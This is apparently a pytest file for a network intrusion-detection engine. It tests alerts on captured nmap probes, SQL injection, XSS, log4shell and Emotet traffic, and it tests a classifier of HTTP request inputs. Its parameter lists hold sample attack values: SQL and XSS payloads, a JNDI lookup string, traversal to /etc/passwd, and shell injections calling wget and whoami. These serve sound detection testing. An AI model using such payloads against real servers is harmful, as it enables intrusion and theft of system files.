"""First-seen HTTP profiles end to end on real captures (rules/app-http-*.yaml,
observation kinds http.fail, http.input, http.turn, http.exe): nmap's HTTP probing, SQL
injection, XSS, log4shell's fetch of its class and Emotet's payload each alert naming
client, server and what was new; every benign shared capture with HTTP stays quiet but
for the one executable download listed; the lexical measure of request inputs
(wirescore.httpinput) on attack values and on benign values that look like them."""
from __future__ import annotations

import functools
import json

import numpy as np
import pytest

from conftest import need_shared
from test_app_firstseen import app_records, app_rules, labeled
from wirescore import appkeys
from wirescore.appkeys import KIND_ID, HttpObserver
from wirescore.config import Config
from wirescore.detect import Detector
from wirescore.engine import Engine
from wirescore.httpinput import decode, escapes, query_inputs

FAIL, INPUT, TURN, EXE = 9100231, 9100232, 9100233, 9100234
HTTP_IDS = (FAIL, INPUT, TURN, EXE)

#: the benign shared captures with HTTP: the shared set minus the labeled attacks, every
#: capture whose eve.json has an http event (384 requests, 999 query parameters, 350
#: User-Agents, 77 Referers, 249 responses; 24 answers 400-599 paired with their request)
BENIGN_HTTP = (
    "labeled/netml-cicids2017-demo/demo.pcap",
    "peer-groundtruth/ndpi/bt-http.pcapng",
    "peer-groundtruth/ndpi/conncheck.pcap",
    "peer-groundtruth/ndpi/crawler_false_positive.pcapng",
    "peer-groundtruth/ndpi/fuzz-2006-09-29-28586.pcap",
    "peer-groundtruth/ndpi/hls.pcapng",
    "peer-groundtruth/ndpi/http-crash-content-disposition.pcap",
    "peer-groundtruth/ndpi/http-proxy.pcapng",
    "peer-groundtruth/ndpi/http_asymmetric.pcapng",
    "peer-groundtruth/ndpi/http_invalid_server.pcap",
    "peer-groundtruth/ndpi/http_starting_with_reply.pcapng",
    "peer-groundtruth/ndpi/ocsp.pcapng",
    "peer-groundtruth/ndpi/ossfuzz_seed_fake_traces_3.pcapng",
    "peer-groundtruth/ndpi/punycode-idn.pcap",
    "peer-groundtruth/ndpi/softether.pcap",
    "peer-groundtruth/ndpi/tls_heur__vmess-websocket.pcapng",
    "peer-groundtruth/ndpi/webdav.pcap",
    "peer-groundtruth/ndpi/windowsupdate_over_http.pcap",
    "peer-groundtruth/ndpi/wow.pcap",
    "peer-groundtruth/nfstream/1kxun.pcap",
    "peer-groundtruth/nfstream/EAQ.pcap",
    "peer-groundtruth/nfstream/KakaoTalk_chat.pcap",
    "peer-groundtruth/nfstream/aimini-http.pcap",
    "peer-groundtruth/nfstream/alexa-app.pcapng",
    "peer-groundtruth/nfstream/android.pcap",
    "peer-groundtruth/nfstream/http-lines-split.pcap",
    "peer-groundtruth/nfstream/http_auth.pcap",
    "peer-groundtruth/nfstream/iphone.pcap",
    "peer-groundtruth/nfstream/mpeg.pcap",
    "peer-groundtruth/nfstream/pps.pcap",
    "peer-groundtruth/nfstream/quickplay.pcap",
    "peer-groundtruth/nfstream/tls_certificate_too_long.pcap",
    "peer-groundtruth/suricata-verify/decode-sll2-01/input.pcap",
    "peer-groundtruth/suricata-verify/decode-teredo-01/input.pcap",
    "peer-groundtruth/suricata-verify/detect-bidir-flowbits/input.pcap",
    "peer-groundtruth/suricata-verify/detect-chksum-01/input.pcap",
    "peer-groundtruth/suricata-verify/entropy__entropy-01/input.pcap",
    "peer-groundtruth/suricata-verify/firewall__tcp-session-decode-malformed-ipv4/input.pcap",
    "peer-groundtruth/suricata-verify/output-eve-anomaly-02/input.pcap",
    "peer-groundtruth/zeek/http__261__variant-01-chunk_2pow64_overflow.pcap",
    "peer-groundtruth/zeek/http__261__variant-02-cl_uint64max.pcap",
    "peer-groundtruth/zeek/http__261__variant-03-cl_negative.pcap",
    "peer-groundtruth/zeek/http__261__variant-04-te_cl_desync.pcap",
    "peer-groundtruth/zeek/http__261__variant-07-expect_100_cl0.pcap",
    "peer-groundtruth/zeek/http__261__variant-08-leading_zeros.pcap",
    "peer-groundtruth/zeek/http__261__variant-09-te_obs_fold.pcap",
    "peer-groundtruth/zeek/http__261__variant-10-multi_value_te.pcap",
    "peer-groundtruth/zeek/http__connect-with-smtp.pcap",
    "peer-groundtruth/zeek/http__content-length-overflow.pcap",
    "peer-groundtruth/zeek/http__get.pcap",
    "peer-groundtruth/zeek/http__http-single-conn-22.pcap",
    "peer-groundtruth/zeek/http__invalid-content-ranges.pcap",
    "peer-groundtruth/zeek/http__query-method-non-standard-port.pcap",
    "peer-groundtruth/zeek/http__query-method.pcap",
    "peer-groundtruth/zeek/http__zeek-image-post-1080-8000-x.pcap",
    "peer-groundtruth/zeek/mixed-vlan-mpls.pcap",
    "peer-groundtruth/zeek/mpls-in-vlan.pcap",
    "peer-groundtruth/zeek/tcp-http-with-padding.pcap",
    "peer-groundtruth/zeek/tcp__http-on-irc-port-missing-syn.pcapng",
    "peer-groundtruth/zeek/tcp__miss_end_data.pcap",
    "peer-groundtruth/zeek/tcp__missing-syn.pcap",
    "peer-groundtruth/zeek/tunnels__Teredo.pcap",
    "peer-groundtruth/zeek/websocket__broker-websocket.pcap",
    "peer-groundtruth/zeek/websocket__jupyter-websocket.pcap",
    "peer-groundtruth/zeek/websocket__wstunnel-http.pcap",
    "peer-groundtruth/zeek/wikipedia.pcap",
    "peer-groundtruth/zeek-communityid/tcp.pcap",
    "varied/linktypes/zeek-http-qinq-0.pcap",
    "varied/linktypes/zeek-http-vlan-0.pcap",
    "varied/linktypes/zeek-http__get-to-ssh-server.pcap",
    "varied/linktypes/zeek-nflog-http.pcap",
)
#: the alerts they give with every warm-up 0: pps.pcap's PPStream client downloads a PE
#: from a server it never got one from, the price of app-http-exe.yaml (rules/README.md
#: "HTTP")
BENIGN_ALERTS = {"peer-groundtruth/nfstream/pps.pcap": [EXE]}


def http_alerts(pcap, tmp_path, warmup=0) -> list[dict]:
    """The HTTP profiles' alert events of one run of the engine (every shipped profile
    loaded, warm-ups set to `warmup`)."""
    logdir = tmp_path / pcap.stem
    Engine(Config.load(), logdir, profiles=app_rules(tmp_path, warmup=warmup)).run(str(pcap))
    events = [json.loads(line) for line in (logdir / "eve.json").read_text().splitlines()]
    alerts = [e for e in events if e["event_type"] == "alert"
              and e["alert"]["signature_id"] in HTTP_IDS]
    for a in alerts:
        assert (logdir / a["capture_file"]).is_file()        # the flow's snippet
        assert not list(_validator().iter_errors(a))
    return alerts


@functools.lru_cache(maxsize=1)
def _validator():
    from jsonschema import Draft202012Validator

    schema = need_shared() / "suricata-eve-schema.json"
    return Draft202012Validator(json.loads(schema.read_text()))


def message(alert: dict) -> str:
    return alert["alert"]["metadata"]["wirescore_firstseen"][0]


def test_nmap_http_probing_counts_distinct_failed_operations(tmp_path):
    alerts = http_alerts(labeled("scans/esnet-nmap_80_all.pcap"), tmp_path)
    assert [a["alert"]["signature_id"] for a in alerts] == [FAIL]
    assert message(alerts[0]).startswith(
        "10 distinct failed requests from 10.87.1.10 to 130.211.223.103 (this one GET "
        "/evox/about (404)); 0 other clients of 130.211.223.103 failed on it before")


@pytest.mark.parametrize("name, client, server, text", [
    ("cicids2017-web-sqli/WebattackSQLinj.pcap", "172.16.0.1", "192.168.10.50",
     "(sql in id of GET /dv/vulnerabilities/sqli/: 1' and 1=1#)"),
    ("web-attacks/ndpi-sql_injection.pcap", "192.168.3.109", "192.168.3.107",
     "(sql in id of GET /DVWA-master/vulnerabilities/sqli/: ?id=a' UNIO...)"),
    ("web-attacks/ndpi-xss.pcap", "192.168.3.109", "192.168.3.107",
     "(markup in default of GET /DVWA-master/vulnerabilities/xss_d/: En...)"),
])
def test_injection_names_input_client_and_server(name, client, server, text, tmp_path):
    alerts = http_alerts(labeled(name), tmp_path)
    assert [a["alert"]["signature_id"] for a in alerts] == [INPUT]
    assert message(alerts[0]) == (f"{client} sent {server} an input that leaves the data "
                                  f"grammar {text}; 0 other clients sent one there before")
    assert alerts[0]["src_ip"] == client and alerts[0]["dest_ip"] == server


def test_two_grammars_from_one_client_are_two_alerts(tmp_path):
    """The XSS capture replayed 60 s after the SQL injection one (one client, one
    server): suppression is per client and escapes, so each language alerts."""
    import dpkt

    parts = []
    for name in ("web-attacks/ndpi-sql_injection.pcap", "web-attacks/ndpi-xss.pcap"):
        with open(labeled(name), "rb") as f:
            reader = dpkt.pcap.Reader(f)
            parts.append((reader.datalink(), list(reader)))
    assert parts[0][0] == parts[1][0]
    pcap = tmp_path / "sqli-then-xss.pcap"
    with open(pcap, "wb") as f:
        w = dpkt.pcap.Writer(f, linktype=parts[0][0])
        for ts, buf in parts[0][1]:
            w.writepkt(buf, ts)
        shift = parts[0][1][-1][0] + 60 - parts[1][1][0][0]
        for ts, buf in parts[1][1]:
            w.writepkt(buf, ts + shift)
    alerts = http_alerts(pcap, tmp_path)
    assert [a["alert"]["signature_id"] for a in alerts] == [INPUT, INPUT]
    assert [message(a).split(" grammar (")[1].split(" in ")[0] for a in alerts] == [
        "sql", "markup"]


def test_log4shell_server_fetches_its_class(tmp_path):
    alerts = http_alerts(labeled("web-attacks/ndpi-log4j-webapp-exploit.pcap"), tmp_path)
    assert [a["alert"]["signature_id"] for a in alerts] == [TURN, EXE]
    assert message(alerts[0]).startswith(
        "172.16.238.10 fetched from 172.16.238.11 right after a request from "
        "172.16.238.1 (0.5 s before: GET /Exploit.class); first time 172.16.238.10 is a "
        "client of 172.16.238.11 this way")
    assert message(alerts[1]).startswith("172.16.238.10 received java-class from "
                                         "172.16.238.11, the first executable")


def test_emotet_payloads_are_new_executables(tmp_path):
    alerts = http_alerts(labeled("malware-c2/ndpi-emotet.pcap"), tmp_path)
    assert {a["alert"]["signature_id"] for a in alerts} == {EXE}
    assert sorted(message(a).split(",")[0] for a in alerts) == [
        "10.4.20.102 received pe from 107.161.178.210",
        "10.4.25.101 received pe from 77.105.36.156"]


@pytest.mark.parametrize("name", BENIGN_HTTP)
def test_benign_http_captures(name, tmp_path):
    alerts = http_alerts(need_shared() / "pcaps" / name, tmp_path)
    assert [a["alert"]["signature_id"] for a in alerts] == BENIGN_ALERTS.get(name, [])


def test_shipped_warmup_keeps_a_young_table_quiet(tmp_path):
    # the scan's capture is shorter than the 60 s warm-up of app-http-forced-browsing
    assert http_alerts(labeled("scans/esnet-nmap_80_all.pcap"), tmp_path,
                       warmup=None) == []


def test_responses_pair_with_requests_across_batches(tmp_path):
    recs = app_records(labeled("scans/esnet-nmap_80_all.pcap"), tmp_path / "run", "http")
    whole = HttpObserver()(recs).array()
    # tshark: 32 responses 400-599 (http.response.code >= 400), 31 linked to their
    # request (http.request_in); the 32nd answers nmap's "XFOC /", a method tshark
    # does not take for HTTP and the room reads as any token
    assert (whole["kind"] == KIND_ID["http.fail"]).sum() == 32
    split = HttpObserver()
    parts = [split(recs[i:i + 7]).array() for i in range(0, len(recs), 7)]
    got = np.concatenate([p for p in parts if len(p)])
    assert np.array_equal(np.sort(got["key"]), np.sort(whole["key"]))


def test_pending_requests_are_bounded_and_counted(tmp_path, monkeypatch):
    recs = app_records(labeled("scans/esnet-nmap_80_all.pcap"), tmp_path / "run", "http")
    monkeypatch.setattr(appkeys, "HTTP_PENDING_MAX", 4)
    obs = HttpObserver()
    obs(recs)
    assert len(obs.pending) <= 4 and obs.dropped > 0


def test_detector_keeps_one_http_observer(tmp_path):
    recs = app_records(labeled("web-attacks/ndpi-log4j-webapp-exploit.pcap"),
                       tmp_path / "run", "http")
    det = Detector(app_rules(tmp_path))
    got = [a for i in range(len(recs)) for a in det.process_app("http", recs[i:i + 1])]
    assert [a.profile.id for a in got] == [TURN]


@pytest.mark.parametrize("value, found", [
    (b"1' and 1=1#", ("sql",)),
    (b"a' UNION SELECT \"text1\",\"text2\";-- -", ("sql",)),
    (b"1\") or (\"1\"=\"1", ("sql",)),
    (b"English<script>alert(1)</script>", ("markup",)),
    (b"\"><img src=x onerror=alert(1)>", ("markup",)),
    (b"${jndi:ldap://10.0.0.1:1389/a}", ("expr",)),
    (b"%{(#_memberAccess)}", ("expr",)),
    (b"../../../../etc/passwd", ("path",)),
    (b"..\\..\\windows\\win.ini", ("path",)),
    (b"127.0.0.1; cat /etc/passwd", ("shell",)),
    (b"x|wget http://a/b", ("shell",)),
    (b"$(whoami)", ("shell",)),
])
def test_escapes_of_attack_values(value, found):
    assert escapes(value) == found


@pytest.mark.parametrize("value", [
    b"don't stop me now", b"O'Reilly and sons", b"\"exact phrase\" search",
    b"{\"filters\":{\"type\":\"book\",\"ids\":[1,2,3]},\"sort\":\"-date\"}",
    b"https://example.com/landing?utm_source=news&utm_medium=email#top",
    b"../img/logo.png", b"a;b", b"rock|pop", b"5 < 6 and 7 > 3", b"price=10$",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    b"#{not closed", b"C:\\Program Files\\app",
])
def test_benign_values_stay_data(value):
    assert escapes(value) == ()


def test_query_inputs_decode_once_more():
    assert query_inputs(b"/s?q=a+b%2527&x&=v") == [(b"q", b"a b'"), (b"", b"x"),
                                                    (b"", b"v")]
    assert decode(b"a+b", plus=False) == b"a+b"


def test_observations_of_hostile_records(tmp_path):
    """Any bytes, offsets, lengths and flags in HTTP and fileinfo records give
    observations or none, never an exception."""
    from wirescore.appkeys import fileinfo_observations

    recs = app_records(labeled("scans/esnet-nmap_80_all.pcap"), tmp_path / "run", "http")
    recs = np.concatenate([recs] * 8)
    rng = np.random.default_rng(16)
    recs["text"] = rng.integers(0, 256, recs["text"].shape, dtype=np.uint8)
    recs["text"][::3, :64] = np.frombuffer(b"GET /a?q=1'+or+1=1--&x=<b>&y=${a}|id;../../x"
                                           .ljust(64, b" "), np.uint8)
    for field in ("field_off", "field_len", "status"):
        recs[field] = rng.integers(0, 65536, recs[field].shape, dtype=np.uint16)
    recs["flags"] = rng.integers(0, 256, len(recs), dtype=np.uint8)
    recs["tx_id"] = rng.integers(0, 3, len(recs), dtype=np.uint32)
    obs = HttpObserver()(recs)
    assert len(obs.rows) > 0
    for i in range(len(obs.rows)):
        obs.words(i)
    files = app_records(labeled("malware-c2/ndpi-emotet.pcap"), tmp_path / "f", "fileinfo")
    files = np.concatenate([files] * 20)
    files["magic"] = rng.integers(0, 256, len(files), dtype=np.uint8)
    got = fileinfo_observations(files)
    for i in range(len(got.rows)):
        got.words(i)


@pytest.mark.parametrize("pcap", ["web-attacks/ndpi-log4j-webapp-exploit.pcap",
                                  "scans/esnet-nmap_80_all.pcap"])
def test_the_measured_inputs_cache_changes_no_answer(tmp_path, monkeypatch, pcap):
    """No cache (each request measured afresh), a cache of two entries and a roomy one
    give the same observations and words, batch after batch."""
    recs = app_records(labeled(pcap), tmp_path / "run", "http")
    runs = []
    for memo in (0, 2, 1 << 12):
        monkeypatch.setattr(appkeys, "HTTP_MEMO_MAX", memo)
        obs = HttpObserver()
        batches = [obs(recs[i:i + 16]) for i in range(0, len(recs), 16)]
        assert len(obs._memo) <= memo
        runs.append([(b.array().tobytes(), [b.words(i) for i in range(len(b.rows))])
                     for b in batches])
    assert runs[0] == runs[1] == runs[2]
    assert sum(len(words) for _, words in runs[0]) > 0
